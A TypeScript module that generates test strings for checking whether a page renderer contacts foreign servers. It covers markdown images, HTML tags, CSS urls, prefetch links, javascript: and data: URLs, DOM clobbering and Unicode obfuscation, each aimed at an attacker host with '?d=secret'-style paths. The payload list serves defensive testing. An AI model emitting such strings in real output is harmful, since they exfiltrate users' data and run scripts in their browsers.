/**
 * Texts that would make a careless page ask a foreign server, or a path of its own server that nothing is at. Each
 * holds a word of its own, so that it can be seen to be shown.
 */
export interface LuringString {
  readonly kind: string
  readonly text: string
  /** What a reader must find on the page wherever the text is shown. */
  readonly shown: string
}

type Template = readonly [kind: string, make: (at: string, word: string) => string]

/** `at` is the address of the attacker's server for this string, without a slash at its end. */
const templates: readonly Template[] = [
  ['markdown image', (at, word) => `${word} ![chart](${at}/i.png?d=secret)`],
  ['image with title and angle brackets', (at, word) => `${word} ![a](<${at}/i.png> "title")`],
  ['image without alternative text', (at, word) => `${word} ![](${at}/i.png)`],
  ['image of no scheme', (at, word) => `${word} ![a](${at.replace('http:', '')}/i.png)`],
  ['image of an upper-case scheme', (at, word) => `${word} ![a](${at.replace('http', 'HtTp')}/i.png)`],
  ['image of the own origin', (_, word) => `${word} ![a](/api/v1/leak-${word}.png)`],
  ['image by reference', (at, word) => `${word} ![a][pic]\n\n[pic]: ${at}/i.png "t"`],
  ['image by collapsed reference', (at, word) => `${word} ![pic][]\n\n[pic]: <${at}/i.png>`],
  ['image by shortcut reference', (at, word) => `${word} ![pic]\n\n[pic]: ${at}/i.png`],
  ['link by reference', (at, word) => `${word} [report][r]\n\n[r]: ${at}/r?d=secret`],
  ['image in a link', (at, word) => `${word} [![a](${at}/i.png)](${at}/l)`],
  ['link in an image', (at, word) => `${word} ![[a](${at}/l)](${at}/i.png)`],
  ['nested brackets', (at, word) => `${word} ![[[a]]](${at}/i.png)) [[b](${at}/x)](${at}/y)`],
  ['unfinished image', (at, word) => `${word} ![a](${at}/i.png`],
  ['entities in an address', (at, word) => `${word} ![a](${at.replaceAll(':', '&#58;')}/i.png)`],
  ['escapes in an image', (at, word) => `${word} !\\[a](${at}/1) \\![b](${at}/2.png)`],
  ['autolink', (at, word) => `${word} <${at}/auto>`],
  ['bare address', (at, word) => `${word} ${at}/bare?d=secret`],
  ['address of www', (_, word) => `${word} www.attacker-${word}.example/?d=secret`],
  ['footnote with an image', (at, word) => `${word} [^1]\n\n[^1]: ![a](${at}/i.png)`],
  ['image in a heading', (at, word) => `# ${word} ![a](${at}/i.png) <img src="${at}/h.png">`],
  ['image in a table', (at, word) => `| ${word} | b |\n|---|---|\n| ![a](${at}/i.png) | <img src=${at}/t> |`],
  [
    'HTML in code',
    (at, word) => `${word} \`<img src="${at}/c.png">\`\n\n\`\`\`html\n<img src="${at}/f">\n\`\`\``,
  ],
  ['diagram code', (at, word) => `${word}\n\n\`\`\`mermaid\ngraph TD; A[<img src='${at}/m.png'>]\n\`\`\``],
  ['formula', (at, word) => `${word} $\\includegraphics{${at}/k.png}$ \\href{${at}/k}{k}`],
  ['img', (at, word) => `${word} <img src="${at}/i.png" onerror="fetch('${at}/e')">`],
  ['img without quotes', (at, word) => `${word} <img/src=${at}/i.png/onerror=fetch(1)>`],
  ['unclosed img', (at, word) => `${word} <img src="${at}/i.png?`],
  ['srcset', (at, word) => `${word} <img srcset="${at}/1x.png 1x, ${at}/2x.png 2x">`],
  ['picture', (at, word) => `${word} <picture><source srcset="${at}/s.webp"><img></picture>`],
  ['iframe', (at, word) => `${word} <iframe src="${at}/f"></iframe>`],
  ['iframe of a document', (at, word) => `${word} <iframe srcdoc="<img src='${at}/f.png'>"></iframe>`],
  ['object and embed', (at, word) => `${word} <object data="${at}/o"></object><embed src="${at}/e">`],
  ['svg image', (at, word) => `${word} <svg><image href="${at}/s.png" /><use href="${at}/u.svg#a"/></svg>`],
  ['svg filter', (at, word) => `${word} <svg><filter><feImage xlink:href="${at}/fe"/></filter></svg>`],
  [
    'svg with a script',
    (at, word) => `${word} <svg onload="fetch('${at}/on')"><script href="${at}/s"/></svg>`,
  ],
  [
    'style element',
    (at, word) => `${word} <style>@import url(${at}/a.css);body{background:url(${at}/b)}</style>`,
  ],
  ['style attribute', (at, word) => `${word} <div style="background:url(${at}/b.png)">x</div>`],
  [
    'style set',
    (at, word) => `${word} <b style="background:image-set(url(${at}/1) 1x);cursor:url(${at}/2),auto">`,
  ],
  [
    'font',
    (at, word) => `${word} <style>@font-face{font-family:x;src:url(${at}/x.woff2)}*{font-family:x}</style>`,
  ],
  ['stylesheet link', (at, word) => `${word} <link rel="stylesheet" href="${at}/s.css">`],
  [
    'prefetch',
    (at, word) => `${word} <link rel=prefetch href=${at}/p><link rel=preload as=image href=${at}/q>`,
  ],
  [
    'dns-prefetch',
    (at, word) => `${word} <link rel=dns-prefetch href=${at}><link rel=preconnect href=${at}>`,
  ],
  [
    'icon and manifest',
    (at, word) => `${word} <link rel=icon href=${at}/i.ico><link rel=manifest href=${at}/m>`,
  ],
  [
    'speculation rules',
    (at, word) => `${word} <script type=speculationrules>{"prefetch":[{"urls":["${at}"]}]}</script>`,
  ],
  ['meta refresh', (at, word) => `${word} <meta http-equiv="refresh" content="0;url=${at}/m">`],
  ['base', (at, word) => `${word} <base href="${at}/"><img src="i.png">`],
  ['video', (at, word) => `${word} <video src="${at}/v.mp4" poster="${at}/p.png" autoplay></video>`],
  [
    'audio and track',
    (at, word) => `${word} <audio src=${at}/a autoplay><track default src=${at}/t.vtt></audio>`,
  ],
  [
    'form',
    (at, word) => `${word} <form action="${at}/f"><input type=image src="${at}/i.png" autofocus></form>`,
  ],
  [
    'background',
    (at, word) => `${word} <table background="${at}/t.png"><tr><td background="${at}/d">x</table>`,
  ],
  ['ping', (at, word) => `${word} <a href="#" ping="${at}/ping">click</a>`],
  ['script', (at, word) => `${word} <script src="${at}/x.js"></script><script>fetch('${at}/y')</script>`],
  ['template', (at, word) => `${word} <template shadowrootmode=open><img src="${at}/t.png"></template>`],
  ['noscript', (at, word) => `${word} <noscript><p title="</noscript><img src=${at}/n.png>">`],
  [
    'MathML',
    (at, word) => `${word} <math><mtext><table><mglyph><style><img src=${at}/m.png></style></table></math>`,
  ],
  [
    'processing instruction',
    (at, word) => `${word} <?xml-stylesheet href="${at}/p.css"?><!ENTITY x SYSTEM "${at}/d">`,
  ],
  ['comment and CDATA', (at, word) => `${word} <!--><img src=${at}/c.png>--> <![CDATA[><img src=${at}/d>]]>`],
  [
    'entity-encoded HTML',
    (at, word) => `${word} &lt;img src=${at}/e.png&gt; &#x3c;img src=${at}/f.png&#x3e;`,
  ],
  ['data address', (at, word) => `${word} ![a](data:image/svg+xml,<svg><image href='${at}/d.png'/></svg>)`],
  ['HTML as data', (at, word) => `${word} [a](data:text/html,<script>location='${at}/d'</script>)`],
  [
    'script address',
    (at, word) => `${word} [a](javascript:fetch('${at}/j')) <a href="java&#9;script:fetch(1)">b</a>`,
  ],
  ['blob and file', (_, word) => `${word} ![a](blob:null/1) ![b](file:///etc/passwd) [c](vbscript:x)`],
  ['soft hyphens in the scheme', (at, word) => `${word} ![a](${at.replace('http', 'ht\u00adtp')}/i.png)`],
  ['full-width signs', (at, word) => `${word} ！[a](${at}/i.png) <ｉｍｇ src=${at}/j.png>`],
  ['zero-width joiners', (at, word) => `${word} !\u200b[a](${at}/i.png) [a\u200d](${at}/z)`],
  [
    'right-to-left override',
    (at, word) => `${word} [\u202egnp.trahc\u202c](${at}/rtl) \u202e<img src=${at}/r>`,
  ],
  [
    'DOM clobbering',
    (at, word) => `${word} <form id=document name=location><input name=cookie value="${at}"></form>`,
  ],
  [
    'clobbered globals',
    (at, word) => `${word} <a id=defaultConfig><a id=defaultConfig name=url href="${at}/c">`,
  ],
  [
    'prototype names',
    (_, word) => `${word} [__proto__]: x [constructor][__proto__] ![toString][] ![hasOwnProperty]`,
  ],
  ['placeholders of translated words', (at, word) => `${word} {{name}} $t(shell:signOut) <1>${at}/t</1>`],
  ['citation turned into an image', (at, word) => `${word} ![1] [1]\n\n[1]: ${at}/cite.png`],
]

/** Letters only: a word is found whole by every tokenizer. */
function wordOf(index: number): string {
  const letters = 'bdfgklmnprstvz'
  return `lure${letters[index % 14]}a${letters[Math.floor(index / 14)]}ox`
}

/** All of them, aimed at the server at `attacker`, each at a path of its own. */
export function luringStrings(attacker: string): readonly LuringString[] {
  return templates.map(([kind, make], index) => {
    const shown = wordOf(index)
    return { kind, shown, text: make(`${attacker}/${shown}`, shown) }
  })
}
